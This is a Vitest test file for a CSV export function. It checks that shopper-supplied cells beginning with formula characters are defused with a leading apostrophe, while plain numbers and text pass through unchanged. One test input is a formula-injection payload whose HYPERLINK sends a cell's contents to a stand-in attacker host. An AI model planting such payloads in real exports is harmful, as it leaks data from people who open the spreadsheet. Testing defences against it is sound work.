/** CSV cells typed by shoppers (customer names, emails) must never reach a spreadsheet as a formula. */
import { describe, expect, it } from "vitest";
import { toCsv } from "~/pages/csv";

const cells = (csv: string) => csv.replace(/\r\n$/, "").split(",");

describe("CSV formula injection", () => {
  it.each([
    ['-1+HYPERLINK("http://evil.example/?x="&A2,"Click")'],
    ["-2+3"],
    ["-A1"],
    ["-.5e1+1"],
    ["=1+1"],
    ["+1+1"],
    ["@SUM(A1)"],
    ["\t=1+1"],
    ["\r=1+1"],
    ["\n=1+1"],
    ["-1.5.6"],
    ["- 1"],
  ])("defuses %j with a leading quote", (text) => {
    const [written] = cells(toCsv([[text]]));
    // Quoted cells (with a comma, quote or line break) keep the leading apostrophe inside the quotes.
    expect(written!.replace(/^"/, "")).toMatch(/^'/);
  });

  it.each([["-3"], ["-12.34"], ["0"], ["1250.00"], ["42"]])("writes the plain number %j as is", (text) => {
    expect(toCsv([[text]])).toBe(`${text}\r\n`);
  });

  it("keeps ordinary text and numbers unchanged", () => {
    expect(toCsv([["Ana-Maria O'Neil", "ana@example.com", -5, 3.25, null]])).toBe(
      "Ana-Maria O'Neil,ana@example.com,-5,3.25,\r\n",
    );
  });
});
